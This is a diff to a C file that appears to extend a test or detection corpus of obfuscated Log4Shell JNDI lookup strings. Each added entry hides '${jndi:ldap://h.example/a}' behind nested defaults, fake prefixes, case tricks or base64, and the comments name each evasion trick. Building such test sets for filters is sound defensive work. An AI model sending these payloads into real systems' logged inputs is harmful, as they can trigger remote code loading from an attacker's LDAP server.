@@ -50,6 +50,15 @@ static const ct_str shapes[] = {
     CT_STR_INIT("${${env:BARFOO:-j}ndi:${env:A:-ldap://h.example}/a}"),
     CT_STR_INIT("${jndi:${lower:l}${lower:d}a${lower:p}://h.example/a}"),
     CT_STR_INIT("${${k8s:k5:-J}${k8s:k6:-ND}i${sd:k5:-:}ldap://h.example/a}"),
+    CT_STR_INIT("${${main:x:-J}nd${spring:y:-i}${web:z:-:}${docker:c:-ldap}://h.example/a}"), /* defaults behind every prefix */
+    CT_STR_INIT("${${log4j:x:-j}${marker:y:-n}${bundle:a:b:-d}${map:z:-i}:ldap://h.example/a}"),
+    CT_STR_INIT("${${java:x:-j}ndi:ldap://h.example/a}"), /* and behind one that throws */
+    CT_STR_INIT("${${aB:cD:E:f:-j}n${G::h:-d}i${:-:}ldap://h.example/a}"), /* made-up prefixes, of several parts */
+    CT_STR_INIT("${${env:A:-${env:B:-${sys:C:-j}}}ndi:ldap://h.example/a}"), /* a default's default */
+    CT_STR_INIT("${j${::-}n${::-}di:ldap://h.example/a}"), /* nothing between the letters */
+    CT_STR_INIT("${${::-jn}${::-di:ldap}://h.example/a}"), /* several letters at once */
+    CT_STR_INIT("${jndi:ldap://${::-h}.${lower:EXAMPLE}:${env:P:-1389}/${::-a}}"), /* the address is hidden instead */
+    CT_STR_INIT("${jndi:ldap://${jndi:dns://h.example/q}.h.example/a}"), /* a call within a call's name */
     CT_STR_INIT("${base64:JHtqbmRpOmxkYXA6Ly9oL2F9}"),
     CT_STR_INIT("${${base64:ag==:-j}ndi:ldap://h.example/a}"),
     CT_STR_INIT("${lower:${::-$}{jndi:x}}"),
